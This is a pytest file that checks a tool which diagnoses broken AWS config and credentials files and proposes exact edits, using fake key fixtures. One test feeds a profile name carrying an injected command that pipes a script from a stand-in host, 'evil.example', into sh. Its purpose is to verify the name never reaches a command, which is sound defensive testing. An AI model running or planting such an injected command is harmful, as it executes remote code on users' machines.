"""Steps that fit the evidence, on real broken set-ups (issue 13).

Each set-up is a temp HOME with the exact bytes of a broken `~/.aws` file. The error is the one
boto3 really raises there; `awsmedic diagnose` runs on it as a user would run it. The step that
fixes the file carries the exact edit (file, line, before, after), its command is run here and
must leave a file botocore reads as meant, and steps that contradict the evidence are absent.
"""

from __future__ import annotations

import json
import os
import shlex
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from tests import fakecli
from tests.scenarios.setup import commands

KEY = "AKIARZPUZDIKGB2VALC4"
SECRET = "Zm9vYmFyYmF6cXV4cXV1eHF1dXhxdXV4cXV1eDEy"


def boto3_error(env: dict[str, str], call: str) -> str:
    """What boto3 raises for `call` in this set-up, as a user would paste it."""
    code = (
        "import boto3\n"
        f"try:\n    {call}\n"
        "except Exception as e:\n    print(f'{type(e).__module__}.{type(e).__name__}: {e}')\n"
        "else:\n    print('no error')\n"
    )
    result = subprocess.run(
        [sys.executable, "-c", code], env=env, capture_output=True, text=True, timeout=60
    )
    assert "no error" not in result.stdout, "the set-up is not broken"
    return result.stdout.strip()


def diagnose(env: dict[str, str], text: str, *args: str) -> dict[str, Any]:
    command = [sys.executable, "-m", "awsmedic", "diagnose", "--format", "json", "--no-input"]
    result = subprocess.run(
        [*command, "--offline", *args, text],
        env=env,
        capture_output=True,
        text=True,
        timeout=90,
        stdin=subprocess.DEVNULL,
    )
    assert result.returncode == 0, result.stdout + result.stderr
    data: dict[str, Any] = json.loads(result.stdout)
    return data


def edits(data: dict[str, Any]) -> list[dict[str, Any]]:
    return [step["edit"] for step in data["steps"] if step["edit"]]


def apply(data: dict[str, Any], env: dict[str, str]) -> None:
    """Run the command of the first edit step, as the user would paste it."""
    step = next(step for step in data["steps"] if step["edit"])
    subprocess.run(["sh", "-c", step["commands"][0]], env=env, check=True, timeout=30)


@pytest.fixture
def env(home: Path) -> dict[str, str]:
    return dict(os.environ)


def test_a_config_section_without_its_prefix(home: Path, env: dict[str, str]) -> None:
    """The case of issue 13: `[my-long-profile-name]` on line 4 of ~/.aws/config, a role
    profile in eu-central-1."""
    config = home / ".aws" / "config"
    original = (
        b"[default]\nregion = us-east-1\n\n[my-long-profile-name]\n"
        b"role_arn = arn:aws:iam::123456789012:role/deploy\nsource_profile = default\n"
        b"region = eu-central-1\n"
    )
    config.write_bytes(original)
    (home / ".aws" / "credentials").write_text(
        f"[default]\naws_access_key_id = {KEY}\naws_secret_access_key = {SECRET}\n"
    )
    env["AWS_PROFILE"] = "my-long-profile-name"
    text = boto3_error(env, "boto3.Session().client('sts')")
    assert "ProfileNotFound" in text
    data = diagnose(env, text)
    assert data["schema_version"] == 2 and data["offline"] == []
    assert data["diagnosis"]["cause"] == "profile-prefix-confusion"
    assert edits(data) == [
        {
            "file": "~/.aws/config",
            "line": 4,
            "before": "[my-long-profile-name]",
            "after": "[profile my-long-profile-name]",
        }
    ]
    first = data["steps"][0]
    assert "@@ ~/.aws/config line 4 @@" in first["text"] and "Found: " in first["text"]
    assert first["commands"][0].startswith("sed -i.bak ")
    # The generic template and `aws configure` (which would prompt for keys) are gone.
    shown = "\n".join(step["text"] for step in data["steps"])
    assert "region = <region>" not in shown and "aws_access_key_id = <" not in shown
    assert "aws configure --profile" not in " ".join(commands(data))
    apply(data, env)
    assert config.read_bytes() == original.replace(
        b"[my-long-profile-name]", b"[profile my-long-profile-name]"
    )
    assert (home / ".aws" / "config.bak").read_bytes() == original
    check = "import botocore.session as s; print(s.get_session().get_scoped_config()['role_arn'])"
    done = subprocess.run([sys.executable, "-c", check], env=env, capture_output=True, text=True)
    assert done.stdout.strip() == "arn:aws:iam::123456789012:role/deploy", done.stderr


def test_a_source_profile_that_names_nothing(home: Path, env: dict[str, str]) -> None:
    """The other case of issue 13: the one profile with keys is offered, never the missing
    name, and nothing signs in to a profile that does not exist."""
    config = home / ".aws" / "config"
    config.write_bytes(
        b"[profile deploy]\nrole_arn = arn:aws:iam::123456789012:role/deploy\n"
        b"source_profile = prod-keys\nregion = eu-central-1\n"
    )
    (home / ".aws" / "credentials").write_text(
        f"[prod]\naws_access_key_id = {KEY}\naws_secret_access_key = {SECRET}\n"
    )
    env["AWS_PROFILE"] = "deploy"
    text = boto3_error(env, "boto3.Session().client('sts').get_caller_identity()")
    data = diagnose(env, text)
    assert data["diagnosis"]["cause"] == "source-profile-broken"
    assert edits(data) == [
        {
            "file": "~/.aws/config",
            "line": 3,
            "before": "source_profile = prod-keys",
            "after": "source_profile = prod",
        }
    ]
    # No sign-in or check against the missing name (only the edit names it, to replace it).
    printed = " ".join(c for step in data["steps"] if not step["edit"] for c in step["commands"])
    assert "prod-keys" not in printed
    assert "aws sso login" not in printed
    assert "access keys" in data["steps"][1]["text"]  # why `prod` is offered
    apply(data, env)
    assert b"source_profile = prod\n" in config.read_bytes()


def test_a_misspelt_key_is_fixed_without_the_secret_in_the_command(
    home: Path, env: dict[str, str]
) -> None:
    credentials = home / ".aws" / "credentials"
    original = f"[default]\naws_access_key_id = {KEY}\naws_secret_acess_key = {SECRET}\n"
    credentials.write_text(original)
    text = boto3_error(env, "boto3.client('sts', region_name='us-east-1').get_caller_identity()")
    data = diagnose(env, text)
    found = [e for e in edits(data) if e["line"] == 3]
    assert found == [
        {
            "file": "~/.aws/credentials",
            "line": 3,
            "before": "aws_secret_acess_key = <secret-key:redacted>",
            "after": "aws_secret_access_key = <secret-key:redacted>",
        }
    ], data["steps"]
    assert SECRET not in json.dumps(data)
    apply(data, env)
    assert credentials.read_text() == original.replace("secret_acess", "secret_access")


def test_a_zone_for_a_region(home: Path, env: dict[str, str]) -> None:
    config = home / ".aws" / "config"
    config.write_bytes(b"[profile dev]\nregion = us_east_1\r\n")
    (home / ".aws" / "credentials").write_text(
        f"[dev]\naws_access_key_id = {KEY}\naws_secret_access_key = {SECRET}\n"
    )
    env["AWS_PROFILE"] = "dev"
    text = boto3_error(env, "boto3.Session().client('sts')")
    assert "InvalidRegionError" in text or "region_name" in text
    data = diagnose(env, text)
    assert data["diagnosis"]["cause"] == "invalid-region"
    assert edits(data) == [
        {
            "file": "~/.aws/config",
            "line": 2,
            "before": "region = us_east_1",
            "after": "region = us-east-1",
        }
    ]
    apply(data, env)
    assert config.read_bytes() == b"[profile dev]\nregion = us-east-1\r\n"  # CRLF kept


def test_the_installed_cli_decides_the_sign_in_step(
    home: Path, env: dict[str, str], tmp_path: Path
) -> None:
    (home / ".aws" / "config").write_text(
        "[profile dev]\nsso_session = corp\nsso_account_id = 123456789012\n"
        "sso_role_name = Admin\nregion = eu-west-1\n\n"
        "[sso-session corp]\nsso_start_url = https://corp.awsapps.com/start\n"
        "sso_region = eu-west-1\nsso_registration_scopes = sso:account:access\n"
    )
    env["AWS_PROFILE"] = "dev"
    text = boto3_error(env, "boto3.Session().client('sts').get_caller_identity()")
    v2 = diagnose(env, text)
    assert v2["diagnosis"]["cause"] == "sso-session-expired"
    assert "aws sso login --profile dev" in commands(v2)
    # The profile already uses an [sso-session]: no step moves it to one.
    assert "aws configure sso-session" not in commands(v2)
    v1 = diagnose({**env, "PATH": cli_path(tmp_path / "v1", fakecli.V1)}, text)
    # Version 1 cannot sign in: the step that installs version 2 says what to run with it.
    assert "install version 2" in v1["steps"][0]["text"]
    assert v1["steps"][0]["commands"][0] == "aws sso login --profile dev"
    # No CLI at all (a boto3 user): install version 2 first, then sign in with it.
    none = diagnose({**env, "PATH": cli_path(tmp_path / "none", None)}, text)
    assert "install version 2" in none["steps"][0]["text"]
    assert none["steps"][1]["commands"][0] == "aws sso login --profile dev"


def cli_path(directory: Path, line: str | None) -> str:
    """PATH with only this stand-in CLI (or none) and the system's programs."""
    bin_dir = fakecli.install(directory, line)
    system = [p for p in os.environ["PATH"].split(os.pathsep) if p.startswith(("/usr", "/bin"))]
    return os.pathsep.join([str(bin_dir), *[p for p in system if "pyenv" not in p]])


def test_environment_keys_are_checked_without_profile(home: Path, env: dict[str, str]) -> None:
    """A check with --profile would skip the environment keys that are the problem."""
    (home / ".aws" / "config").write_text("[default]\nregion = us-east-1\n")
    env.update(
        AWS_ACCESS_KEY_ID=KEY,
        AWS_SECRET_ACCESS_KEY=SECRET,
        AWS_SESSION_TOKEN="FwoGZXIvYXdzEAb1Cd2Ef3Gh4" * 8,
        AWS_PROFILE="default",
    )
    text = (
        "An error occurred (InvalidClientTokenId) when calling the GetCallerIdentity operation: "
        "The security token included in the request is invalid."
    )
    data = diagnose(env, text)
    assert data["diagnosis"]["cause"] == "stale-session-token"
    for command in commands(data):
        words = shlex.split(command)
        if words[:1] == ["aws"] and words[1] not in ("configure", "sso", "login"):
            assert "--profile" not in words, command
    assert "unset AWS_SESSION_TOKEN AWS_SECURITY_TOKEN" in commands(data)
    assert not [c for c in commands(data) if c.startswith("Remove-Item")]  # not on Linux


def test_a_hostile_profile_name_never_becomes_a_command(home: Path, env: dict[str, str]) -> None:
    """Issue 17 item 2: the profile name in the paste reaches no command unquoted."""
    text = "botocore.exceptions.ProfileNotFound: The config profile (dev;curl -s evil.example|sh;#) could not be found"
    data = diagnose(env, text)
    assert data["diagnosis"] is not None or data["candidates"]
    for command in commands(data):
        assert "evil.example" not in command, command
        assert "curl" not in shlex.split(command), command
    shown = "\n".join(step["text"] for step in data["steps"])
    assert "is not a profile name, so it is not put in the command" in shown
    # In prose the name stays readable, inside a code span.
    assert "`dev;curl -s evil.example|sh;#`" in shown


KEYS = f"aws_access_key_id = {KEY}\naws_secret_access_key = {SECRET}\n"
STS = "boto3.Session().client('sts').get_caller_identity()"
SETUPS = {
    "quotes around the region": (
        ("config", '[profile dev]\nregion = "eu-west-1"\n'),
        f"[dev]\n{KEYS}",
        "dev",
        "stray-characters",
        {
            "file": "~/.aws/config",
            "line": 2,
            "before": 'region = "eu-west-1"',
            "after": "region = eu-west-1",
        },
    ),
    "profile prefix in the credentials file": (
        ("credentials", f"[profile dev]\n{KEYS}"),
        "",
        "dev",
        "profile-prefix-confusion",
        {"file": "~/.aws/credentials", "line": 1, "before": "[profile dev]", "after": "[dev]"},
    ),
    "an indented secret": (
        (
            "credentials",
            f"[default]\naws_access_key_id = {KEY}\n  aws_secret_access_key = {SECRET}\n",
        ),
        "",
        None,
        "config-file-syntax",
        {
            "file": "~/.aws/credentials",
            "line": 3,
            "before": "  aws_secret_access_key = <secret-key:redacted>",
            "after": "aws_secret_access_key = <secret-key:redacted>",
        },
    ),
}


@pytest.mark.parametrize("name", SETUPS)
def test_each_locatable_fix_is_the_exact_edit(name: str, home: Path, env: dict[str, str]) -> None:
    (broken, text), other, profile, cause, edit = SETUPS[name]
    (home / ".aws" / broken).write_text(text)
    if other:
        (home / ".aws" / ("credentials" if broken == "config" else "config")).write_text(other)
    if profile:
        env["AWS_PROFILE"] = profile
    data = diagnose(env, boto3_error(env, STS))
    assert data["diagnosis"]["cause"] == cause
    assert edit in edits(data)
    apply(data, env)
    fixed = (home / ".aws" / broken).read_text()
    after = edit["after"].replace("<secret-key:redacted>", SECRET)
    assert fixed.split("\n")[edit["line"] - 1] == after
    assert (home / ".aws" / f"{broken}.bak").read_text() == text
    # botocore now reads the set-up as meant: the region, and the key pair.
    check = (
        "import boto3; s = boto3.Session(); c = s.get_credentials();"
        " print(s.region_name, c.access_key[-4:], len(c.secret_key))"
    )
    done = subprocess.run([sys.executable, "-c", check], env=env, capture_output=True, text=True)
    region = "eu-west-1" if broken == "config" else "None"
    assert done.stdout.split() == [region, KEY[-4:], "40"], done.stderr
